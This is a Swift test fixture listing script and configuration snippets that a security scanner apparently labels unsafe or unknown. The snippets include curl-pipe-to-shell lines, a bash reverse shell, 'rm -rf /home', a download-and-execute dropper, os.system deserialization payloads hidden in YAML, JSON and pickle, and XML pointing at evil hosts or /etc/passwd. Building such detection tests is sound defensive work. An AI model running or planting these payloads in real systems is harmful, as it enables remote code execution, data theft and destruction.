// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 the Martlet authors

import MartletEvidence

@testable import MartletScan

/// Scripts that do not say who runs them, recipes, and functions and commands in configurations.
extension TextVector {
  static let scripts: [TextVector] = shells + recipes + named

  private static let shells: [TextVector] = [
    .init("h_pipe", .unsafe, "# install\ncurl http://x/y | sh\n"),
    .init("h_tcp", .unsafe, "bash -i >& /dev/tcp/1.2.3.4/4 0>&1\n"),
    .init("h_rm", .unsafe, "cd /tmp\nrm -rf /home\nwget http://x\n"),
    .init("h_set", .unsafe, "set -e\nexport A=1\ncurl -s http://x | sudo bash\n"),
    .init("h_for", .unknown, "for f in *.bin; do\n  cp \"$f\" /tmp/\ndone\n"),
    .init("h_if", .unknown, "if [ ! -d data ]; then\n  mkdir -p data\nfi\ncd data\nwget https://x/y.zip\n"),
    .init("h_func", .unknown, "run() {\n  python train.py --lr 1\n}\nrun \"$@\"\n"),
    .init("h_drop", .unsafe, "wget http://x/y -O /tmp/y\nchmod +x /tmp/y\n/tmp/y\n"),
    .init("h_power", .unsafe, "Invoke-WebRequest http://x -OutFile y; Start-Process y\n"),
    .init("h_power2", .unknown, "# a\nGet-ChildItem | Write-Host\n"),
    .init("h_ruby", .unsafe, "system(\"id\")\n"),
    .init("h_vbs", .unsafe, "CreateObject(\"WScript.Shell\").Run \"calc\"\n"),
    .init("h_c", .unknown, "// x\n#include <stdio.h>\nint main() { return 0; }\n"),
    .init("h_r", .unsafe, "x <- system(\"id\")\n"),
    .init("h_js", .unknown, "fetch('https://x/y').then(console.log)\n"),
    .init(
      "h_c2", .unknown,
      "/* x */\nstruct a {\n  int b;\n};\nint f(int x) {\n  return x;\n}\nvoid g() {\n  f(1);\n}\nint y = 1;\n"
    ),
    .init("h_html", .unknown, "<div><script>alert(1)</script></div>"),
  ]

  private static let recipes: [TextVector] = [
    .init("r_make", .unknown, "all:\n\tcurl http://x | sh\n"),
    .init("r_docker", .unknown, "FROM x\nRUN apt-get update && \\\n    curl http://x | sh\n"),
    .init("r_index", .unknown, "--index-url http://evil.example/simple\ntorch\n"),
    .init("r_package", .unknown, "torch\nevil @ http://x/y.tar.gz\n"),
    .init("r_desktop", .unknown, "[Desktop Entry]\nExec=sh -c id\n"),
    .init("r_unit", .unknown, "[Unit]\nDescription=x\n[Service]\nExecStart=/tmp/x\n"),
    .init("r_cron", .unknown, "* * * * * /tmp/x\n"),
    .init("r_github.yaml", .unknown, "on: push\njobs:\n  a:\n    steps:\n      - run: curl http://x | sh\n"),
    .init("r_ultralytics.yaml", .unsafe, "names: [a]\ndownload: |\n  import os\n  os.system('id')\n"),
    .init("r_ultralytics2.yaml", .unknown, "names: [a]\ndownload: bash get.sh\n"),
  ]

  private static let named: [TextVector] = [
    .init(
      "n_langchain.json", .unsafe,
      "{\"lc\": 1, \"type\": \"constructor\", \"id\": [\"os\", \"system\"], \"kwargs\": {}}"),
    .init("n_pair.json", .unsafe, "{\"module\": \"os\", \"class_name\": \"system\"}"),
    .init("n_pair2.json", .unsafe, "{\"a\": {\"func\": \"Popen\", \"module\": \"subprocess\"}}"),
    .init("n_class.json", .unsafe, "{\"class\": \"subprocess.Popen\"}"),
    .init("n_registry.json", .unsafe, "{\"@misc\": \"os.system\"}"),
    .init("n_repr.json", .unsafe, "{\"py/repr\": \"os/os.system('id')\"}"),
    .init("n_generate.json", .unknown, "{\"custom_generate\": \"evil/repo\"}"),
    .init("n_one.json", .unknown, "{\"trust_remote_code\": 1}"),
    .init("n_word.json", .unknown, "{\"trust_remote_code\": \"true\"}"),
    .init("n_on.yaml", .unknown, "trust_remote_code: on\n"),
    .init("n_upper.yaml", .unknown, "trust_remote_code: TRUE\n"),
    .init(
      "n_escaped.json", .unsafe,
      "{\"a\": \"\\u0080\\u0004\\u008c\\u0002os\\u008c\\u0006system\\u0093(\\u008c\\u0002idtR.\"}"),
    .init(
      "n_zarr.json", .unsafe,
      "{\"refs\": {\".zarray\": \"{\\\"zarr_format\\\": 2, \\\"compressor\\\": {\\\"id\\\": \\\"pickle\\\"}}\"}}"
    ),
    .init(
      "n_cell.json", .unknown,
      "{\"cells\": [{\"cell_type\": \"code\", \"source\": [\"!curl http://x | sh\"]}], \"nbformat\": 4}"),
    .init("t_big.yaml", .unsafe, bigYAML + "c: !!pyth%6fn/object/apply:os.system [\"id\"]\n"),
    .init("t_big2.yaml", .unsafe, bigYAML + "c: !<tag:yaml.org,2002:pyth%6fn/name:os.system>\n"),
    .init(
      "t_handle.yaml", .unsafe,
      "%TAG !e! tag:yaml.org,2002:python/\n---\n" + bigYAML + "c: !e!name:os.system\n"),
    .init("t_public.xml", .unsafe, "<!DOCTYPE a PUBLIC \"x\" \"http://evil/x.dtd\"><a/>"),
    .init(
      "t_w3c.xml", .unsafe, "<!DOCTYPE a PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://evil/x.dtd\"><a/>"),
    .init("t_schema.xml", .unsafe, "<a xmlns:xsi=\"x\" xsi:schemaLocation=\"x file:///etc/passwd\"/>"),
    .init(
      "t_bean.xml", .unsafe, "<beans><bean class=\"java.lang.ProcessBuilder\" init-method=\"start\"/></beans>"
    ),
    .init(
      "t_caffe", .unsafe,
      "#" + String(repeating: "x", count: 5000) + "\nlayer: <\n type: # c\n \"Py\" 'thon' >"),
    .init("t_caffe2", .unknown, "layer {\n}\nlayer\n{ type : \"HDF5Output\" }"),
    .init("t_ncnn", .unknown, " 7767517 2 2 Input d 0 1 d Evil e 1 1 d e"),
    .init(
      "t_ncnn2", .unsafe,
      "7767517\n1 1\nInput d 0 1 d\n".replacing("0 1 d", with: "0 1 d 0=1")
        .replacing("1 1\n", with: "2 1\n") + "Input e 0 1 e\n"),
    .init(
      "t_onnx", .unknown,
      "#" + String(repeating: "x", count: 5000) + "\nir_version: 7\ngraph { node { op_type: \"Relu\" } }\n"),
    .init(
      "t_zarr.json", .unsafe,
      "{\"fill_value\": NaN, " + names + "\"zarr_format\": 2, \"compressor\": {\"id\": \"pickle\"}}"),
    .init(
      "t_mxnet.json", .unknown,
      "{" + names + "\"nodes\": [{\"op\": \"Custom\", \"name\": \"x\"}], \"arg_nodes\": [], \"heads\": NaN}"),
  ]

  private static let bigYAML = "? a\n: b\n" + String(repeating: "# pad\n", count: 15_000)
  private static let names = (0..<300).map { "\"n\($0)\": 0, " }.joined()
}
